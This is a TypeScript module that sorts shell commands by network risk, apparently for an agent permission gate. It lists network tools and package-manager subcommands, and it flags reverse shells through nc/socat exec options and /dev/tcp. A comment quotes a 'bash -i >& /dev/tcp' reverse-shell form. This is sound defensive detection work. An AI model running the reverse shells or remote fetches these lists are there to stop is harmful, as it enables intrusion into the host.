import { firstPositional } from "./command-words.js";

export type NetworkLevel = "none" | "consent_required" | "forbidden";

export type Finding = { level: Exclude<NetworkLevel, "none">; token: string; reason: string };

/** Always talk to the network. */
const NETWORK_PROGRAMS = new Set([
  "curl",
  "wget",
  "nc",
  "ncat",
  "netcat",
  "telnet",
  "ftp",
  "sftp",
  "lftp",
  "socat",
  "aria2c",
  "httpie",
  "http",
  "https",
  "xh",
  "invoke-webrequest",
  "iwr",
  "invoke-restmethod",
  "irm",
  "ping",
  "dig",
  "nslookup",
  "host",
  "traceroute",
  "whois",
  "gh",
  "hub",
  "aws",
  "gcloud",
  "az",
  "kubectl",
  "ngrok",
  "tailscale",
  "mosh",
]);

/** Subcommands that reach a registry or remote, per tool. */
const NETWORK_SUBCOMMANDS: Record<string, string[]> = {
  git: ["clone", "fetch", "pull", "push", "ls-remote", "submodule", "remote", "archive", "send-email", "request-pull"],
  npm: [
    "install",
    "i",
    "in",
    "ins",
    "add",
    "ci",
    "publish",
    "update",
    "up",
    "upgrade",
    "exec",
    "x",
    "create",
    "init",
    "view",
    "info",
    "search",
    "login",
    "audit",
    "outdated",
    "dist-tag",
    "unpublish",
    "deprecate",
    "dedupe",
    "ping",
    "token",
    "whoami",
  ],
  pnpm: ["install", "i", "add", "publish", "update", "up", "upgrade", "dlx", "create", "fetch", "audit", "outdated", "login"],
  yarn: ["install", "add", "publish", "upgrade", "up", "dlx", "create", "info", "npm", "audit", "outdated", "login"],
  bun: ["install", "i", "add", "publish", "update", "x", "create", "upgrade"],
  pip: ["install", "download", "search", "wheel", "index"],
  pip3: ["install", "download", "search", "wheel", "index"],
  pipx: ["install", "run", "upgrade", "inject", "reinstall"],
  uv: ["add", "sync", "lock", "pip", "tool", "run", "python", "venv"],
  poetry: ["install", "add", "update", "lock", "publish", "search"],
  conda: ["install", "create", "update", "search"],
  cargo: ["install", "fetch", "update", "publish", "search", "add", "login", "vendor"],
  go: ["get", "install", "mod"],
  gem: ["install", "update", "fetch", "push", "search"],
  composer: ["install", "require", "update", "create-project"],
  apt: ["install", "update", "upgrade", "full-upgrade", "dist-upgrade", "download", "source"],
  "apt-get": ["install", "update", "upgrade", "dist-upgrade", "download", "source", "build-dep"],
  aptitude: ["install", "update", "upgrade"],
  dnf: ["install", "update", "upgrade", "download"],
  yum: ["install", "update", "upgrade"],
  apk: ["add", "update", "upgrade", "fetch"],
  brew: ["install", "update", "upgrade", "fetch", "tap"],
  docker: ["pull", "push", "run", "build", "login", "search", "create", "compose", "buildx"],
  podman: ["pull", "push", "run", "build", "login", "search", "create"],
  deno: ["install", "add", "cache"],
};

/**
 * Subcommands that only reach the network with a particular next word (`git remote update`, not
 * `git remote -v`; `npm init <initializer>`, not a bare `npm init`).
 */
const NETWORK_ONLY_WITH: Record<string, (rest: string[]) => boolean> = {
  "git remote": (rest) => ["update", "prune", "show", "set-head"].includes(rest[0] ?? ""),
  "git submodule": (rest) => ["update", "add", "foreach"].includes(rest[0] ?? ""),
  "go mod": (rest) => ["download", "tidy", "vendor"].includes(rest[0] ?? ""),
  "uv pip": (rest) => ["install", "download", "sync", "compile"].includes(rest[0] ?? ""),
  "npm init": (rest) => rest.some((arg) => !arg.startsWith("-")),
  "npm exec": () => true,
};

/** Options of `git` that take a value before the subcommand. */
const GIT_VALUE_OPTIONS = ["-C", "-c", "--git-dir", "--work-tree", "--namespace", "--exec-path"];

/** Package runners that download the package when it is not installed locally. */
const PACKAGE_RUNNERS = new Set(["npx", "bunx", "pnpx"]);

const SHELLS = new Set(["sh", "bash", "zsh", "dash", "ksh", "ash", "fish", "csh", "tcsh"]);

/** Interpreters that execute what they read on stdin. */
const STDIN_EXECUTORS = new Set([...SHELLS, "python", "python2", "python3", "perl", "ruby", "node", "php", "source", ".", "iex", "pwsh", "powershell"]);

/** `python3.11` and `pip3.12` behave like `python` and `pip`. */
function versionless(name: string): string {
  if (/^python[\d.]*$/.test(name)) return "python";
  if (/^pip[\d.]*$/.test(name)) return "pip";
  return name;
}

export function isStdinExecutor(name: string): boolean {
  return STDIN_EXECUTORS.has(versionless(name));
}

/** Programs that fetch remote content (the upstream of a `| sh`). */
export const DOWNLOADERS = new Set(["curl", "wget", "fetch", "aria2c", "http", "https", "xh", "nc", "ncat", "netcat", "iwr", "invoke-webrequest", "irm", "invoke-restmethod", "lftp", "ftp"]);

const INLINE_NETWORK: Record<string, { flags: string[]; pattern: RegExp }> = {
  node: {
    flags: ["-e", "--eval", "-p", "--print"],
    pattern:
      /\bfetch\s*\(|\b(require|import)\s*\(?\s*['"](node:)?(https?|http2|net|dgram|dns|tls)['"]|from\s+['"](node:)?(https?|http2|net|dgram|dns|tls)['"]|\bWebSocket\b|\bundici\b|\baxios\b|\bXMLHttpRequest\b/,
  },
  python: {
    flags: ["-c"],
    pattern: /\b(urllib|requests|httpx|aiohttp|socket|http\.client|ftplib|smtplib|telnetlib|paramiko)\b/,
  },
  perl: { flags: ["-e", "-E"], pattern: /\b(IO::Socket|LWP|HTTP::Tiny|Net::)\w*/ },
  ruby: { flags: ["-e"], pattern: /\b(net\/http|open-uri|socket|Net::HTTP|TCPSocket)\b/ },
  php: { flags: ["-r"], pattern: /\b(curl_|fsockopen|stream_socket_client)|file_get_contents\s*\(\s*['"]https?:/ },
};

function interpreterFamily(name: string): string | undefined {
  if (/^python[\d.]*$/.test(name)) return "python";
  if (name === "node" || name === "nodejs" || name === "deno" || name === "bun") return "node";
  if (INLINE_NETWORK[name] !== undefined) return name;
  return undefined;
}

function inlineCode(args: string[], flags: string[]): string | undefined {
  for (let index = 0; index < args.length; index += 1) {
    if (flags.includes(args[index])) return args[index + 1] ?? "";
    const joined = flags.find((flag) => flag.startsWith("--") && args[index].startsWith(`${flag}=`));
    if (joined !== undefined) return args[index].slice(joined.length + 1);
  }
  return undefined;
}

function hasRemoteHost(args: string[]): boolean {
  return args.some((arg) => /^[\w.-]+@[\w.-]+(:|$)/.test(arg) || /^[\w.-]{2,}:(?!\/\/)/.test(arg) || /^(rsync|ssh|sftp):\/\//.test(arg));
}

function reverseShellFinding(name: string, args: string[]): Finding | undefined {
  const execFlags = ["-e", "-c", "--exec", "--sh-exec", "--lua-exec"];
  if (["nc", "ncat", "netcat"].includes(name) && args.some((arg) => execFlags.includes(arg) || (/^-\w*e/.test(arg) && !arg.startsWith("--")))) {
    return { level: "forbidden", token: name, reason: `${name} with an exec option hands a shell to a remote host` };
  }
  if (name === "socat" && args.some((arg) => /\b(exec|system):/i.test(arg))) {
    return { level: "forbidden", token: name, reason: "socat with exec/system connects a program to a socket" };
  }
  return undefined;
}

function packageManagerFinding(name: string, args: string[]): Finding | undefined {
  const subcommands = NETWORK_SUBCOMMANDS[versionless(name)];
  if (subcommands === undefined) return undefined;
  if (args.includes("--offline") || args.includes("--no-index") || args.includes("--prefer-offline")) return undefined;
  const positional = firstPositional(args, name === "git" ? GIT_VALUE_OPTIONS : []);
  if (name === "yarn" && positional === undefined) {
    return { level: "consent_required", token: "yarn", reason: "bare yarn installs dependencies from the registry" };
  }
  if (positional === undefined || !subcommands.includes(positional.word)) return undefined;
  const narrowing = NETWORK_ONLY_WITH[`${name} ${positional.word}`];
  if (narrowing !== undefined && !narrowing(positional.rest)) return undefined;
  const token = `${name} ${positional.word}`;
  return { level: "consent_required", token, reason: `${token} reaches a remote registry or host` };
}

/** Network findings for one effective command (wrappers already stripped). */
export function classifySimpleCommand(name: string, args: string[], installedBins: ReadonlySet<string>): Finding[] {
  const reverse = reverseShellFinding(name, args);
  if (reverse !== undefined) return [reverse];
  if (NETWORK_PROGRAMS.has(name)) return [{ level: "consent_required", token: name, reason: `${name} uses the network` }];
  if (name === "ssh" || name === "mosh") {
    return firstPositional(args, ["-p", "-i", "-l", "-o", "-F", "-J", "-L", "-R", "-D", "-b", "-c", "-E", "-m", "-S", "-W"])
      ? [{ level: "consent_required", token: name, reason: `${name} connects to a remote host` }]
      : [];
  }
  if ((name === "scp" || name === "rsync") && hasRemoteHost(args)) {
    return [{ level: "consent_required", token: name, reason: `${name} copies to or from a remote host` }];
  }
  if (PACKAGE_RUNNERS.has(name)) return packageRunnerFinding(name, args, installedBins);
  const family = interpreterFamily(name);
  if (family !== undefined) return interpreterFindings(name, family, args);
  const manager = packageManagerFinding(name, args);
  return manager === undefined ? [] : [manager];
}

function packageRunnerFinding(name: string, args: string[], installedBins: ReadonlySet<string>): Finding[] {
  if (args.includes("--no-install") || args.includes("--offline")) return [];
  const explicitPackage = args.some((arg) => ["-p", "--package", "-y", "--yes"].includes(arg) || arg.startsWith("--package="));
  const target = firstPositional(args, ["-p", "--package", "-c", "--call"]);
  if (!explicitPackage && target !== undefined && installedBins.has(target.word)) return [];
  const what = target?.word ?? "a package";
  return [{ level: "consent_required", token: name, reason: `${name} ${what} downloads the package when it is not installed locally` }];
}

function interpreterFindings(name: string, family: string, args: string[]): Finding[] {
  if (family === "python") {
    const moduleIndex = args.indexOf("-m");
    const module = moduleIndex === -1 ? undefined : args[moduleIndex + 1];
    const sub = moduleIndex === -1 ? undefined : args[moduleIndex + 2];
    const pipNetwork = module === "pip" && ["install", "download", "search", "wheel", "index"].includes(sub ?? "");
    if (pipNetwork || module === "http.server" || module === "SimpleHTTPServer") {
      return [{ level: "consent_required", token: `${name} -m ${module}`, reason: `python -m ${module} uses the network` }];
    }
  }
  if (name === "deno" && args.some((arg) => /^https?:\/\//.test(arg) || /^--allow-(net|all)\b/.test(arg) || arg === "-A")) {
    return [{ level: "consent_required", token: "deno", reason: "deno with a remote module or network permission" }];
  }
  if (name === "bun" || name === "deno") {
    const manager = packageManagerFinding(name, args);
    if (manager !== undefined) return [manager];
  }
  const rule = INLINE_NETWORK[family];
  const code = rule === undefined ? undefined : inlineCode(args, rule.flags);
  if (rule !== undefined && code !== undefined && rule.pattern.test(code)) {
    return [{ level: "consent_required", token: `${name} inline network`, reason: `inline ${name} code opens network connections` }];
  }
  return [];
}

/** `bash -c "…"`, `sh -c`, `eval …`, `su -c`: the string that will run as a command. */
export function nestedScript(name: string, args: string[]): string | undefined {
  if (name === "eval") return args.join(" ");
  if (SHELLS.has(name) || name === "su" || name === "runuser") {
    const index = args.findIndex((arg) => arg === "-c" || /^-[a-z]*c$/.test(arg));
    if (index !== -1) return args[index + 1];
  }
  return undefined;
}

/** `bash -i >& /dev/tcp/h/p 0>&1` is a reverse shell; other /dev/tcp use still leaves the box. */
export function devTcpFinding(raw: string): Finding | undefined {
  if (!/\/dev\/(tcp|udp)\//.test(raw)) return undefined;
  if (/\b(sh|bash|zsh|ksh)\b[^|;&]*\s-i\b|0>&1|>&\s*\/dev\/(tcp|udp)/.test(raw)) {
    return { level: "forbidden", token: "/dev/tcp", reason: "an interactive shell wired to /dev/tcp is a reverse shell" };
  }
  return { level: "consent_required", token: "/dev/tcp", reason: "bash /dev/tcp opens a network connection" };
}

const STDIN_CODE_FLAG: Record<string, string> = { python: "-c", node: "-e", perl: "-e", ruby: "-e", php: "-r" };

/** A heredoc fed to a shell is a script; fed to an interpreter it is inline code; otherwise data. */
export function heredocScript(name: string, body: string): { shell: string } | { findings: Finding[] } | undefined {
  if (SHELLS.has(name)) return { shell: body };
  const family = interpreterFamily(name);
  const flag = family === undefined ? undefined : STDIN_CODE_FLAG[family];
  if (flag === undefined) return undefined;
  return { findings: interpreterFindings(name, family ?? name, [flag, body]) };
}
